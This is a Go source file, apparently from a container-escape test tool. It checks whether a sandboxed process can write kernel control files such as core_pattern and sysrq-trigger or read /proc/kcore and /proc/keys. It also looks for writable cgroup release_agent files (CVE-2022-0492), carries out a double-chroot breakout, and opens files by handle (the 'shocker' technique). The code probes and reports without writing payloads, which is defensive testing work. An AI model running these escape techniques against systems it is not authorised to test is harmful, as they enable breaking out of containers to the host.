package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// files tries to open for writing what changes the machine, and to read what
// tells about it. Nothing is written.
func files([]string) {
	var all []attempt
	for _, path := range []string{
		"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/sysrq", "/proc/sys/vm/panic_on_oom",
		"/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper", "/sys/power/state",
	} {
		all = append(all, attempt{"write " + path, func() error { return openFor(path, syscall.O_WRONLY) }})
	}
	for _, dir := range []string{"/proc/sys", "/proc/bus", "/proc/fs", "/proc/irq", "/sys"} {
		all = append(all, attempt{"write anything below " + dir, func() error { return writeBelow(dir) }})
	}
	for _, path := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/interrupts", "/proc/latency_stats", "/proc/sched_debug"} {
		all = append(all, attempt{"read " + path, func() error { return readOne(path) }})
	}
	for _, dir := range []string{"/proc/acpi", "/proc/scsi", "/proc/asound", "/sys/firmware", "/sys/devices/virtual/powercap"} {
		all = append(all, attempt{"list " + dir, func() error { return listOne(dir) }})
	}
	fmt.Print(results(all))
}

func openFor(path string, flags int) error {
	fd, err := syscall.Open(path, flags|syscall.O_NONBLOCK|syscall.O_NOCTTY, 0)
	if err == nil {
		syscall.Close(fd)
	}
	return err
}

// writeBelow opens regular files for writing until one can be.
func writeBelow(dir string) error {
	last := error(syscall.ENOENT)
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		if last = openFor(path, syscall.O_WRONLY); last == nil {
			return fs.SkipAll
		}
		return nil
	})
	return errors.Join(err, last)
}

func listOne(dir string) error {
	entries, err := os.ReadDir(dir)
	if err == nil && len(entries) == 0 {
		return syscall.ENODATA
	}
	return err
}

// releaseAgent looks for the program that the kernel runs, as the host's root,
// when a control group is left empty (CVE-2022-0492): in what is mounted, in
// hierarchies that it mounts itself, and in new namespaces where it may.
func releaseAgent([]string) {
	point := "/tmp/attacker-cgroup"
	must(os.MkdirAll(point, 0o755))
	find := func() error {
		found := error(syscall.ENOENT)
		filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Name() == "release_agent" && found != nil {
				found = openFor(path, syscall.O_WRONLY)
			}
			if err == nil && d.IsDir() && strings.HasPrefix(path, "/proc/") {
				return fs.SkipDir
			}
			return nil
		})
		return found
	}
	all := []attempt{{"release_agent there", find}}
	for _, controller := range []string{"memory", "pids", "rdma", "freezer", "none,name=attacker"} {
		all = append(all, attempt{"mount " + controller, func() error { return unix.Mount("cgroup", point, "cgroup", 0, controller) }},
			attempt{"release_agent of " + controller, func() error {
				defer unix.Unmount(point, 0)
				return openFor(point+"/release_agent", syscall.O_WRONLY)
			}})
	}
	all = append(all, attempt{"release_agent in a user namespace", func() error { return unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP) }})
	fmt.Print(results(all))
}

// chrootAgain is the classic way out of a chroot: another one, while a
// directory above stays open. It looks for a file of the host's.
func chrootAgain(arguments []string) {
	must(os.MkdirAll("/tmp/attacker-root", 0o755))
	above, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	must(err)
	must(unix.Chroot("/tmp/attacker-root"))
	must(unix.Fchdir(above))
	for range 64 {
		must(unix.Chdir(".."))
	}
	must(unix.Chroot("."))
	fmt.Print(results([]attempt{{"find the host", func() error { return openFor(arguments[0], syscall.O_RDONLY) }}}))
}

// handles opens files by their handles, which name them to the filesystem
// itself, whatever is mounted where (CVE-2014-3519, "shocker"): that of a file
// the attacker sees, and the root's of the same filesystem.
func handles(arguments []string) {
	fmt.Print(results([]attempt{{"open by handle", func() error {
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, arguments[0], 0)
		if err != nil {
			return err
		}
		at, err := unix.Open(arguments[0], unix.O_RDONLY, 0)
		if err != nil {
			return err
		}
		defer unix.Close(at)
		fd, err := unix.OpenByHandleAt(at, handle, unix.O_RDONLY)
		if err == nil {
			unix.Close(fd)
		}
		return err
	}}}))
}
